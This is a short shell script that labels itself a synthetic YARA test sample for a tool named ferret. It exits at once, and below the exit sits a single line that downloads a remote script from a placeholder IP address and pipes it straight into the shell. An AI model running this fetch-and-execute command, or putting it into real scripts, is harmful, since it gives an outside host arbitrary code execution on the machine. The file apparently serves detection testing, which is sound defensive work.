#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run
wget -q -O- http://198.51.100.23:8443/x.sh | sh
